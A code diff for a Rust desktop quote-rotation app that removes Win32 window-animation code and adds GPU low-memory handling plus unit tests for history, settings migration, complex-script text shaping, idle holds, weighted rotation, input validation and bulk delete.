-                        AppAnimation::Dance => {
-                            let radius = 70.0;
-                            let offset_x = (app_state.anim_progress * 4.0).sin() * radius;
-                            let offset_y = (app_state.anim_progress * 2.5).cos() * radius;
-                            window.set_outer_position(winit::dpi::PhysicalPosition::new(
-                                base_x + offset_x as i32,
-                                base_y + offset_y as i32,
-                            ));
-                        }
-                        AppAnimation::Rotate => {
-                            if app_state.anim_progress > 2.5 {
-                                app_state.anim_progress = 0.0;
-                                actions.push(TitleBarAction::PlayRotate);
-                            }
-                        }
-                        AppAnimation::Dissolve => {
-                            if let Ok(handle) = window.window_handle() {
-                                if let winit::raw_window_handle::RawWindowHandle::Win32(win32) =
-                                    handle.as_raw()
-                                {
-                                    let hwnd = HWND(win32.hwnd.get() as _);
-                                    let opacity =
-                                        0.4 + 0.6 * (app_state.anim_progress * 2.5).cos().abs();
-                                    unsafe {
-                                        let ex_style = GetWindowLongW(hwnd, GWL_EXSTYLE);
-                                        if (ex_style & WS_EX_LAYERED.0 as i32) == 0 {
-                                            let _ = SetWindowLongW(
-                                                hwnd,
-                                                GWL_EXSTYLE,
-                                                ex_style | WS_EX_LAYERED.0 as i32,
-                                            );
-                                        }
-                                        let _ = SetLayeredWindowAttributes(
-                                            hwnd,
-                                            None,
-                                            (opacity * 255.0) as u8,
-                                            LWA_ALPHA,
-                                        );
-                                    }
-                                }
-                            }
-                        }
-                        AppAnimation::Fly => {
-                            let speed = 12.0;
-                            let mut new_x = pos.x as f32 + speed;
-                            let offset_y = (app_state.anim_progress * 2.0).sin() * 150.0;
+        // Drawn at the eased angle and scale of this frame
+        let outcome = render_state.paint(
+            &paint_jobs,
+            &full_output.textures_delta,
+            scale,
+            app_state.get_background_color(),
+            Some(ContentRotation {
+                angle: app_state.current_rotation_angle,
+                scale: app_state.current_scale,
+                ..rotation
+            }),
+        );
+        if let PaintOutcome::Downscaled(surface_scale) = outcome {
+            log_to_file(&format!("Out of GPU memory, surface at {surface_scale}x"));
+            // Once per run; further halvings only go to the log
+            if !self.low_memory_warned {
+                self.low_memory_warned = true;
+                app_state.push_toast(
+                    ToastKind::Error,
+                    "Low on graphics memory: drawing at a reduced resolution",
+                );
+            }
+        }
+
+        // Restore cosmic-text state back to self
+        self.font_system = font_system;
+        self.swash_cache = swash_cache;
+        self.shaped_text_textures = tex_cache;
+
+        if let PaintOutcome::DeviceError(error) = outcome {
+            self.recover_gpu(&error);
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    /// A state over `texts` that never writes settings.json or plays sounds
+    fn state_with(texts: &[&str]) -> AppState {
+        let quotes = texts.iter().map(|text| Quote::new(*text, "")).collect();
+        let config = AppConfig {
+            collections: vec![Collection::new("Test", quotes)],
+            active_collection: 0,
+            ..AppConfig::default()
+        };
+        let mut state = AppState::from_config(config, Some(7));
+        state.read_only = true;
+        state.sound_on_rotate = false;
+        state.current_quote_index = 0;
+        state
+    }
+
+    fn shown(state: &AppState) -> &str {
+        &state.quotes[state.current_quote_index].main_text
+    }
+
+    // ---- history (PREV) ----
+
+    #[test]
+    fn prev_walks_back_through_shown_quotes() {
+        let mut state = state_with(&["a", "b", "c", "d"]);
+        state.select_quote(2);
+        state.next_quote();
+        assert_eq!(shown(&state), "d");
+        state.prev_quote();
+        assert_eq!(shown(&state), "c");
+        state.prev_quote();
+        assert_eq!(shown(&state), "a");
+        assert!(!state.can_go_back());
+        // Without history PREV steps back in list order
+        state.prev_quote();
+        assert_eq!(shown(&state), "d");
+    }
+
+    #[test]
+    fn history_is_bounded() {
+        let mut state = state_with(&["a", "b", "c", "d"]);
+        for _ in 0..HISTORY_LIMIT + 10 {
+            state.next_quote();
+        }
+        assert_eq!(state.history.len(), HISTORY_LIMIT);
+    }
+
+    #[test]
+    fn deleting_drops_the_quote_from_history() {
+        let mut state = state_with(&["a", "b", "c", "d", "e"]);
+        state.select_quote(1);
+        state.select_quote(3);
+        state.select_quote(4);
+        state.delete_quote(1);
+        assert_eq!(state.history, vec![0, 2]);
+        assert_eq!(shown(&state), "e");
+        state.prev_quote();
+        assert_eq!(shown(&state), "d");
+        state.prev_quote();
+        assert_eq!(shown(&state), "a");
+    }
+
+    #[test]
+    fn remap_history_shifts_and_merges() {
+        let mut history = vec![0, 2, 3, 2];
+        remap_history(&mut history, 2);
+        assert_eq!(history, vec![0, 2]);
+        // Neighbours of the removed entry would repeat; they merge
+        let mut history = vec![1, 2, 1];
+        remap_history(&mut history, 2);
+        assert_eq!(history, vec![1]);
+    }
+
+    // ---- settings.json errors ----
+
+    /// A copy of a fixture in a temp dir of the test's own (`test`), so
+    /// renames never touch the fixtures or another test's copy
+    fn fixture_copy(test: &str, name: &str) -> std::path::PathBuf {
+        let dir =
+            std::env::temp_dir().join(format!("daily-motivation-{}-{}", test, std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        let path = dir.join(SETTINGS_FILE);
+        let fixture = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
+            .join("tests/fixtures")
+            .join(name);
+        std::fs::copy(fixture, &path).unwrap();
+        path
+    }
+
+    #[test]
+    fn corrupt_settings_report_where_they_break() {
+        let path = fixture_copy("parse", "settings_trailing_comma.json");
+        match AppConfig::load_from(&path) {
+            Err(ConfigError::Parse { line, column, .. }) => assert_eq!((line, column), (4, 1)),
+            other => panic!("expected a parse error, got {:?}", other.map(|_| ())),
+        }
+        let path = fixture_copy("parse", "settings_truncated.json");
+        assert!(matches!(
+            AppConfig::load_from(&path),
+            Err(ConfigError::Parse { line: 4, .. })
+        ));
+        std::fs::remove_dir_all(path.parent().unwrap()).unwrap();
+    }
+
+    #[test]
+    fn corrupt_settings_are_moved_aside_intact() {
+        let path = fixture_copy("backup", "settings_trailing_comma.json");
+        let original = std::fs::read_to_string(&path).unwrap();
+        let backup = backup_corrupt_file(&path).unwrap();
+        assert!(!path.exists());
+        assert!(backup
+            .to_string_lossy()
+            .starts_with(&format!("{}.bak-", path.display())));
+        assert_eq!(std::fs::read_to_string(&backup).unwrap(), original);
+        std::fs::remove_dir_all(path.parent().unwrap()).unwrap();
+    }
+
+    #[test]
+    fn a_missing_settings_file_is_not_an_error_to_report() {
+        let path = std::env::temp_dir().join("daily-motivation-test-missing.json");
+        let err = AppConfig::load_from(&path).unwrap_err();
+        assert!(err.is_missing());
+    }
+
+    // ---- config versions ----
+
+    #[test]
+    fn v1_flat_quotes_move_into_a_default_collection() {
+        let config =
+            AppConfig::from_json(include_str!("../tests/fixtures/settings_v1.json")).unwrap();
+        assert_eq!(config.config_version, CONFIG_VERSION);
+        assert_eq!(config.collections.len(), 1);
+        assert_eq!(config.collections[0].name, "Default");
+        assert_eq!(config.collections[0].quotes.len(), 9);
+        assert_eq!(
+            config.collections[0].quotes[2].main_text,
+            "Focus on the work - Success is near"
+        );
+        assert_eq!(config.interval_secs, 60);
+        assert!(!config.is_from_future());
+    }
+
+    #[test]
+    fn v2_collections_load_as_written() {
+        let config =
+            AppConfig::from_json(include_str!("../tests/fixtures/settings_v2.json")).unwrap();
+        let names: Vec<&str> = config.collections.iter().map(|c| c.name.as_str()).collect();
+        assert_eq!(names, ["Work", "Home"]);
+        assert_eq!(config.active_collection, 1);
+        assert_eq!(config.current_quote_index, 2);
+        assert_eq!(config.interval_secs, 45);
+    }
+
+    #[test]
+    fn a_newer_file_loads_read_only() {
+        let config =
+            AppConfig::from_json(include_str!("../tests/fixtures/settings_future.json")).unwrap();
+        assert_eq!(config.config_version, 99);
+        assert!(config.is_from_future());
+        assert!(AppState::from_config(config, None).read_only);
+    }
+
+    // ---- complex scripts ----
+
+    const ARABIC: &str = "مرحبا بالعالم";
+    const HEBREW: &str = "שלום עולם";
+    const BENGALI: &str = "আমি বাংলায় গান গাই";
+    const MIXED_RTL: &str = "2024 مرحبا 42";
+
+    /// Only the bundled font, so widths don't depend on what the machine has
+    fn bundled_font_system() -> cosmic_text::FontSystem {
+        let mut db = cosmic_text::fontdb::Database::new();
+        db.load_font_file(concat!(
+            env!("CARGO_MANIFEST_DIR"),
+            "/assets/nerdfonts_regular.ttf"
+        ))
+        .expect("bundled font");
+        cosmic_text::FontSystem::new_with_locale_and_db("en-US".to_owned(), db)
+    }
+
+    #[test]
+    fn scripts_are_detected_per_block() {
+        assert_eq!(detect_script("Stay hungry"), None);
+        assert_eq!(detect_script(ARABIC), Some(ComplexScript::Arabic));
+        assert_eq!(detect_script(HEBREW), Some(ComplexScript::Hebrew));
+        assert_eq!(detect_script(BENGALI), Some(ComplexScript::Bengali));
+        assert_eq!(detect_script("नमस्ते"), Some(ComplexScript::Devanagari));
+        assert_eq!(detect_script("สวัสดี"), Some(ComplexScript::Thai));
+        assert!(needs_shaping(ARABIC) && needs_shaping(BENGALI));
+        assert!(!needs_shaping("Plain 123"));
+    }
+
+    #[test]
+    fn base_direction_follows_the_first_letter() {
+        assert_eq!(base_direction("Hello"), TextDirection::Ltr);
+        assert_eq!(base_direction(BENGALI), TextDirection::Ltr);
+        assert_eq!(base_direction(ARABIC), TextDirection::Rtl);
+        assert_eq!(base_direction(HEBREW), TextDirection::Rtl);
+        // Leading digits are neutral
+        assert_eq!(base_direction(MIXED_RTL), TextDirection::Rtl);
+        assert_eq!(base_direction("Hi مرحبا"), TextDirection::Ltr);
+    }
+
+    #[test]
+    fn texture_key_differs_by_direction() {
+        let key = |direction| {
+            shaped_texture_key(ARABIC, 20.0, Color32::WHITE, false, 0.0, direction, 1.0)
+        };
+        assert_ne!(key(TextDirection::Rtl), key(TextDirection::Ltr));
+        assert_eq!(key(TextDirection::Rtl), key(TextDirection::Rtl));
+    }
+
+    #[test]
+    fn texture_key_differs_by_scale() {
+        let key = |pixels_per_point| {
+            shaped_texture_key(
+                BENGALI,
+                20.0,
+                Color32::WHITE,
+                false,
+                0.0,
+                TextDirection::Ltr,
+                pixels_per_point,
+            )
+        };
+        assert_ne!(key(1.0), key(1.5));
+        assert_ne!(key(1.5), key(2.0));
+    }
+
+    #[test]
+    fn shaped_textures_have_width() {
+        let ctx = Context::default();
+        let mut font_system = bundled_font_system();
+        let mut swash_cache = cosmic_text::SwashCache::new();
+        let mut cache = HashMap::new();
+        for text in ["Latin text", ARABIC, HEBREW, BENGALI, MIXED_RTL] {
+            let (_, size) = render_shaped_text(
+                &ctx,
+                &mut font_system,
+                &mut swash_cache,
+                text,
+                20.0,
+                Color32::WHITE,
+                &mut cache,
+            )
+            .unwrap_or_else(|| panic!("no texture for {text:?}"));
+            assert!(size.x > 0.0 && size.y > 0.0, "{text:?}: {size:?}");
+        }
+        assert_eq!(cache.len(), 5);
+    }
+
+    // ---- idle hold ----
+
+    /// Idle time and lock state the test sets, shared with the boxed source
+    #[derive(Debug, Default, Clone)]
+    struct FakeIdle {
+        idle: std::rc::Rc<std::cell::Cell<Option<Duration>>>,
+        locked: std::rc::Rc<std::cell::Cell<bool>>,
+    }
+
+    impl IdleSource for FakeIdle {
+        fn idle_for(&self) -> Option<Duration> {
+            self.idle.get()
+        }
+        fn session_locked(&self) -> bool {
+            self.locked.get()
+        }
+    }
+
+    fn state_with_idle(fake: &FakeIdle) -> AppState {
+        let mut state = state_with(&["a", "b", "c"]);
+        state.idle_pause_secs = 300;
+        state.idle_source = Box::new(fake.clone());
+        // First run opens the walkthrough, which holds rotation as editing
+        state.onboarding = None;
+        state
+    }
+
+    #[test]
+    fn idle_past_the_threshold_holds_rotation() {
+        let fake = FakeIdle::default();
+        let mut state = state_with_idle(&fake);
+        fake.idle.set(Some(Duration::from_secs(299)));
+        state.update_idle_hold(false);
+        assert_eq!(state.idle_hold, None);
+        assert!(state.next_rotation_due().is_some());
+
+        fake.idle.set(Some(Duration::from_secs(300)));
+        state.update_idle_hold(false);
+        assert_eq!(state.idle_hold, Some(IdleHold::Idle));
+        assert!(state.next_rotation_due().is_none());
+    }
+
+    #[test]
+    fn lock_holds_even_with_recent_input() {
+        let fake = FakeIdle::default();
+        let mut state = state_with_idle(&fake);
+        fake.idle.set(Some(Duration::ZERO));
+        fake.locked.set(true);
+        state.update_idle_hold(false);
+        assert_eq!(state.idle_hold, Some(IdleHold::Locked));
+
+        fake.locked.set(false);
+        state.update_idle_hold(false);
+        assert_eq!(state.idle_hold, None);
+    }
+
+    #[test]
+    fn resuming_restarts_the_countdown() {
+        let fake = FakeIdle::default();
+        let mut state = state_with_idle(&fake);
+        fake.idle.set(Some(Duration::from_secs(600)));
+        state.update_idle_hold(false);
+        assert_eq!(state.idle_hold, Some(IdleHold::Idle));
+
+        let held_since = state.last_rotation;
+        std::thread::sleep(Duration::from_millis(5));
+        fake.idle.set(Some(Duration::ZERO));
+        state.update_idle_hold(false);
+        assert_eq!(state.idle_hold, None);
+        assert!(state.last_rotation > held_since);
+    }
+
+    #[test]
+    fn zero_threshold_never_holds_for_idle() {
+        let fake = FakeIdle::default();
+        let mut state = state_with_idle(&fake);
+        state.idle_pause_secs = 0;
+        fake.idle.set(Some(Duration::from_secs(24 * 3600)));
+        state.update_idle_hold(false);
+        assert_eq!(state.idle_hold, None);
+    }
+
+    #[test]
+    fn unknown_idle_falls_back_to_in_app_input() {
+        let fake = FakeIdle::default();
+        let mut state = state_with_idle(&fake);
+        state.last_interaction = Instant::now();
+        state.update_idle_hold(false);
+        assert_eq!(state.idle_hold, None);
+
+        state.last_interaction = Instant::now() - Duration::from_secs(301);
+        state.update_idle_hold(false);
+        assert_eq!(state.idle_hold, Some(IdleHold::Idle));
+    }
+
+    #[test]
+    fn typing_holds_and_idle_outranks_it() {
+        let fake = FakeIdle::default();
+        let mut state = state_with_idle(&fake);
+        fake.idle.set(Some(Duration::ZERO));
+        state.update_idle_hold(true);
+        assert_eq!(state.idle_hold, Some(IdleHold::Editing));
+
+        fake.idle.set(Some(Duration::from_secs(900)));
+        state.update_idle_hold(true);
+        assert_eq!(state.idle_hold, Some(IdleHold::Idle));
+    }
+
+    #[test]
+    fn typing_hold_ends_with_the_typing() {
+        let fake = FakeIdle::default();
+        let mut state = state_with_idle(&fake);
+        fake.idle.set(Some(Duration::ZERO));
+        state.update_idle_hold(true);
+        assert_eq!(state.idle_hold, Some(IdleHold::Editing));
+
+        state.update_idle_hold(false);
+        assert_eq!(state.idle_hold, None);
+        assert!(state.next_rotation_due().is_some());
+    }
+
+    // ---- weighted rotation ----
+
+    fn seeded_rng() -> rand::rngs::StdRng {
+        rand::SeedableRng::seed_from_u64(42)
+    }
+
+    #[test]
+    fn weighted_pick_needs_some_weight() {
+        let mut rng = seeded_rng();
+        assert_eq!(weighted_pick(&[], &mut rng), None);
+        assert_eq!(weighted_pick(&[0, 0, 0], &mut rng), None);
+    }
+
+    #[test]
+    fn weighted_pick_single_item_always_wins() {
+        let mut rng = seeded_rng();
+        for _ in 0..100 {
+            assert_eq!(weighted_pick(&[3], &mut rng), Some(0));
+        }
+    }
+
+    #[test]
+    fn weighted_pick_skips_zero_weights() {
+        let mut rng = seeded_rng();
+        for _ in 0..1_000 {
+            let pick = weighted_pick(&[0, 2, 0, 1, 0], &mut rng);
+            assert!(matches!(pick, Some(1 | 3)), "{pick:?}");
+        }
+    }
+
+    #[test]
+    fn weighted_pick_follows_the_weights() {
+        const DRAWS: usize = 10_000;
+        let weights = [1, 2, 3, 4, 5];
+        let total: u32 = weights.iter().sum();
+        let mut rng = seeded_rng();
+        let mut counts = [0usize; 5];
+        for _ in 0..DRAWS {
+            counts[weighted_pick(&weights, &mut rng).unwrap()] += 1;
+        }
+        for (i, &count) in counts.iter().enumerate() {
+            let expected = weights[i] as f64 / total as f64;
+            let share = count as f64 / DRAWS as f64;
+            assert!(
+                (share - expected).abs() < 0.02,
+                "index {i}: {share} vs {expected}"
+            );
+        }
+        // Five stars come up about five times as often as one
+        let ratio = counts[4] as f64 / counts[0] as f64;
+        assert!((4.0..6.0).contains(&ratio), "{ratio}");
+    }
+
+    /// Quotes shown over 30 random rotations of a fresh session started
+    /// with `cli_seed` (--seed) over a settings file saving `saved_seed`
+    fn random_run(cli_seed: Option<u64>, saved_seed: Option<u64>) -> Vec<usize> {
+        let quotes = (0..20).map(|i| Quote::new(format!("q{i}"), "")).collect();
+        let config = AppConfig {
+            collections: vec![Collection::new("Test", quotes)],
+            active_collection: 0,
+            rotation_mode: RotationMode::Random,
+            seed: saved_seed,
+            ..AppConfig::default()
+        };
+        let mut state = AppState::from_config(config, cli_seed);
+        state.read_only = true;
+        state.sound_on_rotate = false;
+        let mut shown = vec![state.current_quote_index];
+        for _ in 0..30 {
+            state.next_quote();
+            shown.push(state.current_quote_index);
+        }
+        shown
+    }
+
+    #[test]
+    fn same_seed_repeats_the_rotation() {
+        assert_eq!(random_run(Some(1234), None), random_run(Some(1234), None));
+        assert_ne!(random_run(Some(1234), None), random_run(Some(4321), None));
+        // A saved seed works the same way, and --seed overrides it
+        assert_eq!(random_run(None, Some(99)), random_run(None, Some(99)));
+        assert_eq!(
+            random_run(Some(1234), Some(99)),
+            random_run(Some(1234), None)
+        );
+    }
+
+    // ---- quote input ----
+
+    #[test]
+    fn grapheme_count_counts_what_the_reader_sees() {
+        assert_eq!(grapheme_count(""), 0);
+        assert_eq!(grapheme_count("café"), 4);
+        assert_eq!(grapheme_count("e\u{301}"), 1);
+        assert_eq!(grapheme_count("👨‍👩‍👧"), 1);
+        // ক্ষ is three code points, one conjunct
+        assert_eq!(grapheme_count("ক্ষ"), 1);
+        assert_eq!(grapheme_count("কি"), 1);
+        assert_eq!(grapheme_count("স্বপ্ন"), 2);
+        assert_eq!(grapheme_count("আমি বাংলায় গান গাই"), 12);
+    }
+
+    #[test]
+    fn validate_quote_input_checks_length_in_graphemes() {
+        let quotes = [Quote::new("Stay hungry", "")];
+        assert_eq!(
+            validate_quote_input("  \n ", "", 300, &quotes),
+            Some(InputIssue::Empty)
+        );
+        assert_eq!(validate_quote_input("New one", "", 300, &quotes), None);
+        assert_eq!(
+            validate_quote_input("abcdef", "", 5, &quotes),
+            Some(InputIssue::TooLong)
+        );
+        assert_eq!(
+            validate_quote_input("Short", "too long", 5, &quotes),
+            Some(InputIssue::TooLong)
+        );
+        // 15 code points, but five conjuncts
+        let conjuncts = "ক্ষ".repeat(5);
+        assert_eq!(validate_quote_input(&conjuncts, "", 5, &quotes), None);
+        assert_eq!(
+            validate_quote_input(&"ক্ষ".repeat(6), "", 5, &quotes),
+            Some(InputIssue::TooLong)
+        );
+        // Surrounding spaces don't count
+        assert_eq!(validate_quote_input("  abcde  ", " x ", 5, &quotes), None);
+    }
 
-                            if new_x > monitor_size.width as f32 {
-                                new_x = -(size.width as f32);
-                            }
+    #[test]
+    fn validate_quote_input_finds_duplicates_after_cleanup() {
+        let quotes = [
+            Quote::new("Stay hungry", ""),
+            Quote::new("আমি বাংলায় গান গাই", ""),
+        ];
+        assert_eq!(
+            validate_quote_input(" stay\u{00A0} HUNGRY ", "", 300, &quotes),
+            Some(InputIssue::Duplicate)
+        );
+        assert_eq!(
+            validate_quote_input("আমি বাংলায়  গান গাই", "", 300, &quotes),
+            Some(InputIssue::Duplicate)
+        );
+        assert_eq!(validate_quote_input("Stay foolish", "", 300, &quotes), None);
 
-                            window.set_outer_position(winit::dpi::PhysicalPosition::new(
-                                new_x as i32,
-                                (monitor_size.height as f32 / 2.0 + offset_y) as i32,
-                            ));
-                        }
-                        _ => {}
-                    }
-                    window.request_redraw();
-                }
-            } else {
-                if app_state.base_pos.is_some() {
-                    if let Ok(handle) = window.window_handle() {
-                        if let winit::raw_window_handle::RawWindowHandle::Win32(win32) =
-                            handle.as_raw()
-                        {
-                            let hwnd = HWND(win32.hwnd.get() as _);
-                            unsafe {
-                                let _ = SetLayeredWindowAttributes(hwnd, None, 255, LWA_ALPHA);
-                            }
-                        }
-                    }
-                    if matches!(
-                        app_state.active_animation,
-                        AppAnimation::Shake | AppAnimation::Dance
-                    ) {
-                        if let Some((x, y)) = app_state.base_pos {
-                            window.set_outer_position(winit::dpi::PhysicalPosition::new(x, y));
-                        }
-                    }
-                    app_state.base_pos = None;
-                    app_state.anim_progress = 0.0;
-                }
-            }
+        // Quotes stored before the cleanup can still hold the odd spaces
+        let stored = [Quote::new("Stay\u{00A0}hungry,  stay foolish", "")];
+        assert_eq!(
+            validate_quote_input("Stay hungry, stay foolish", "", 300, &stored),
+            Some(InputIssue::Duplicate)
+        );
+    }
 
-            if app_state.rotation_enabled
-                && app_state.last_rotation.elapsed() >= app_state.rotation_interval
-                && !app_state.quotes.is_empty()
-            {
-                app_state.next_quote();
-            }
+    #[test]
+    fn edit_current_quote_writes_back_in_place() {
+        let mut state = state_with(&["a", "Stay hungry", "c"]);
+        state.current_quote_index = 1;
+        let quote = &mut state.quotes[1];
+        quote.rating = 5;
+        quote.note = Some("keep".into());
+        quote.energy = EnergyLevel::Calm;
+        quote.tags = vec!["work".into(), "life".into()];
+        quote.source_url = Some("https://example.com".into());
+
+        state.edit_current_quote();
+        assert_eq!(state.quotes.len(), 3);
+        assert_eq!(state.main_text_input, "Stay hungry");
+        assert_eq!(state.tag_input, "work, life");
+        assert_eq!(state.source_url_input, "https://example.com");
+        assert!(state.is_editing());
+        // Unchanged, it isn't a duplicate of itself
+        assert_eq!(state.input_issue(), None);
+
+        state.main_text_input = "Stay hungry, stay foolish".into();
+        assert!(state.submit_inputs());
+        assert_eq!(state.editing_quote, None);
+        assert_eq!(state.quotes.len(), 3);
+        let quote = &state.quotes[1];
+        assert_eq!(quote.main_text, "Stay hungry, stay foolish");
+        assert_eq!(quote.tags, ["work", "life"]);
+        assert_eq!(quote.rating, 5);
+        assert_eq!(quote.note.as_deref(), Some("keep"));
+        assert_eq!(quote.energy, EnergyLevel::Calm);
+        assert!(state.main_text_input.is_empty());
+    }
 
-            // Build shaper tuple from cosmic-text state
-            let mut shaper = match (font_system.as_mut(), swash_cache.as_mut()) {
-                (Some(fs), Some(sc)) => Some((fs, sc, &mut tex_cache)),
-                _ => None,
+    // ---- large collections ----
+
+    /// One control panel frame over `count` quotes: how many widgets it
+    /// built and how long it took (after a first frame to settle layout)
+    fn text_list_frame(count: usize) -> (usize, Duration) {
+        let texts: Vec<String> = (0..count)
+            .map(|i| match i % 3 {
+                0 => format!("Quote {i}: keep going, one small step at a time"),
+                1 => format!("{i} {BENGALI}"),
+                _ => format!("Line {i}\nwith a second line that gets ellipsized"),
+            })
+            .collect();
+        let texts: Vec<&str> = texts.iter().map(String::as_str).collect();
+        let mut state = state_with(&texts);
+        state.section_open.insert("text_list".into(), true);
+
+        let ctx = Context::default();
+        let mut frame = || {
+            let input = egui::RawInput {
+                screen_rect: Some(Rect::from_min_size(Pos2::ZERO, Vec2::new(300.0, 800.0))),
+                ..Default::default()
             };
+            let _ = ctx.run(input, |ctx| {
+                egui::CentralPanel::default().show(ctx, |ui| {
+                    render_control_panel_contents(ui, &mut state, &mut None)
+                });
+            });
+        };
+        frame();
+        let started = Instant::now();
+        frame();
+        let elapsed = started.elapsed();
+        let widgets = ctx.viewport(|vp| {
+            vp.prev_pass
+                .widgets
+                .layers()
+                .map(|(_, widgets)| widgets.len())
+                .sum()
+        });
+        (widgets, elapsed)
+    }
 
-            // Smooth content rotation and scaling animation
-            {
-                let speed = 8.0_f32;
-                let dt = 0.016_f32;
-                let lerp = 1.0 - (-speed * dt).exp();
+    #[test]
+    fn text_list_builds_only_the_visible_rows() {
+        // Both lists overflow the TEXT LIST area, so the same rows are in view
+        let (few, _) = text_list_frame(100);
+        let (many, _) = text_list_frame(5_000);
+        assert!(many <= few, "{many} widgets for 5000 quotes, {few} for 100");
+    }
 
-                app_state.current_rotation_angle +=
-                    (app_state.target_rotation_angle - app_state.current_rotation_angle) * lerp;
+    #[test]
+    #[ignore = "timing; run with --release -- --ignored"]
+    fn text_list_frame_fits_60fps_with_5000_quotes() {
+        let (_, elapsed) = text_list_frame(5_000);
+        assert!(elapsed < Duration::from_millis(16), "{elapsed:?}");
+    }
+
+    // ---- bulk delete ----
+
+    #[test]
+    fn index_after_removal_shifts_past_removed_rows() {
+        let removed = [1, 3];
+        assert_eq!(index_after_removal(0, &removed), Some(0));
+        assert_eq!(index_after_removal(1, &removed), None);
+        assert_eq!(index_after_removal(2, &removed), Some(1));
+        assert_eq!(index_after_removal(3, &removed), None);
+        assert_eq!(index_after_removal(4, &removed), Some(2));
+        assert_eq!(index_after_removal(2, &[]), Some(2));
+    }
+
+    /// Quote shown after deleting `indices` from a..e with `current` up
+    fn shown_after_delete(current: usize, indices: &[usize]) -> (AppState, String) {
+        let mut state = state_with(&["a", "b", "c", "d", "e"]);
+        state.current_quote_index = current;
+        state.delete_many(indices);
+        let shown = state
+            .current_quote()
+            .map(|q| q.main_text.clone())
+            .unwrap_or_default();
+        (state, shown)
+    }
 
-                // Calculate target scale to fit in window
-                let angle = app_state.current_rotation_angle;
-                let cos_a = angle.cos().abs();
-                let sin_a = angle.sin().abs();
+    #[test]
+    fn delete_many_keeps_the_current_quote() {
+        // Before and after the current one
+        assert_eq!(shown_after_delete(2, &[0, 1]).1, "c");
+        assert_eq!(shown_after_delete(2, &[3, 4]).1, "c");
+        assert_eq!(shown_after_delete(2, &[4, 0, 4]).1, "c");
+        // Out of range indices are ignored
+        let (state, shown) = shown_after_delete(2, &[9]);
+        assert_eq!((state.quotes.len(), shown.as_str()), (5, "c"));
+    }
 
-                let w = content_rect.width();
-                let h = content_rect.height();
+    #[test]
+    fn delete_many_moves_on_from_a_deleted_current_quote() {
+        // The next one takes its place, or the new last one at the end
+        let (state, shown) = shown_after_delete(2, &[1, 2]);
+        assert_eq!(shown, "d");
+        assert_eq!(state.archived.len(), 2);
+        assert_eq!(shown_after_delete(4, &[4]).1, "d");
+        assert_eq!(shown_after_delete(3, &[3, 4]).1, "c");
+    }
 
-                let bounding_w = w * cos_a + h * sin_a;
-                let bounding_h = w * sin_a + h * cos_a;
+    #[test]
+    fn delete_many_can_empty_the_collection() {
+        let (state, shown) = shown_after_delete(2, &[0, 1, 2, 3, 4]);
+        assert!(state.quotes.is_empty());
+        assert_eq!(state.current_quote_index, 0);
+        assert_eq!(shown, "");
+        assert_eq!(state.archived.len(), 5);
+    }
 
-                let target_scale = (w / bounding_w).min(h / bounding_h).min(1.0);
-                app_state.current_scale += (target_scale - app_state.current_scale) * lerp;
+    // ---- reading time ----
 
-                if (app_state.current_rotation_angle - app_state.target_rotation_angle).abs()
-                    > 0.001
-                    || (app_state.current_scale - target_scale).abs() > 0.001
-                {
-                    window.request_redraw();
-                }
-            }
+    fn reading_secs(text: &str, wpm: u32, bengali_cpm: u32) -> f64 {
+        reading_time(text, wpm, bengali_cpm).as_secs_f64()
+    }
 
-            // Sync rotation state with 3D background (Windows Property)
-            #[cfg(windows)]
-            {
-                if let Ok(handle) = window.window_handle() {
-                    if let winit::raw_window_handle::RawWindowHandle::Win32(win32) = handle.as_raw()
-                    {
-                        let hwnd = HWND(win32.hwnd.get() as _);
-                        let mut property_name: Vec<u16> = "RotationState".encode_utf16().collect();
-                        property_name.push(0);
-                        let angle_bits = app_state.current_rotation_angle.to_bits();
-                        unsafe {
-                            let _ = SetPropW(
-                                hwnd,
-                                windows::core::PCWSTR(property_name.as_ptr()),
-                                windows::Win32::Foundation::HANDLE(angle_bits as _),
-                            );
-                        }
-                    }
-                }
-            }
+    #[test]
+    fn reading_time_counts_latin_words() {
+        assert!((reading_secs("one two three four", 240, 600) - 1.0).abs() < 1e-6);
+        // Punctuation on its own isn't a word
+        assert!((reading_secs("one — two ... three, four!", 240, 600) - 1.0).abs() < 1e-6);
+        assert_eq!(reading_time("", 240, 600), Duration::ZERO);
+        assert_eq!(reading_time(" \n — ", 240, 600), Duration::ZERO);
+    }
 
-            render_main_content(ctx, app_state, &mut shaper);
+    #[test]
+    fn reading_time_counts_bengali_graphemes() {
+        // আমি বাংলায় গান গাই: 2 + 3 + 2 + 2 clusters
+        assert!((reading_secs("আমি বাংলায় গান গাই", 240, 540) - 1.0).abs() < 1e-6);
+        // Bengali goes by cluster whatever the word rate
+        assert!((reading_secs("আমি বাংলায় গান গাই", 1, 540) - 1.0).abs() < 1e-6);
+    }
 
-            render_theme_modal(ctx, app_state);
+    #[test]
+    fn reading_time_adds_up_mixed_text() {
+        // One word at 60 wpm and two clusters at 120 per minute
+        assert!((reading_secs("Hello আমি", 60, 120) - 2.0).abs() < 1e-6);
+        // A word mixing both scripts counts as Bengali, digits included
+        assert!((reading_secs("ক্ষমা123", 60, 120) - 2.5).abs() < 1e-6);
+        // Zero rates don't divide by zero
+        assert!(reading_secs("Hello আমি", 0, 0).is_finite());
+    }
 
-            // Render floating buttons
-            let float_actions = render_floating_buttons(ctx, app_state);
-            for action in float_actions {
-                match action {
-                    TitleBarAction::TogglePanel => {
-                        app_state.title_bar_state.control_panel_visible =
-                            !app_state.title_bar_state.control_panel_visible;
-                    }
-                    TitleBarAction::ShowHeader => {
-                        app_state.title_bar_state.header_visible = true;
-                    }
-                    _ => {}
-                }
-            }
-        });
-        let scale = window.scale_factor() as f32;
-        let content_w = window.inner_size().width as f32 / scale;
-        let content_h = window.inner_size().height as f32 / scale;
-        let content_rect = Rect::from_min_max(
-            Pos2::new(0.0, TITLE_BAR_HEIGHT),
-            Pos2::new(content_w, content_h),
+    // ---- quote text cleanup ----
+
+    #[test]
+    fn sanitize_keeps_joiners_inside_bengali_conjuncts() {
+        // র‍্য (ra + ZWJ + virama + ya) and ক্‌ষ (ka + virama + ZWNJ + ssa)
+        // render differently with the joiner, so it stays
+        let ra_phala = "\u{09B0}\u{200D}\u{09CD}\u{09AF}";
+        let split_ksha = "\u{0995}\u{09CD}\u{200C}\u{09B7}";
+        assert_eq!(sanitize_quote_text(ra_phala), ra_phala);
+        assert_eq!(sanitize_quote_text(split_ksha), split_ksha);
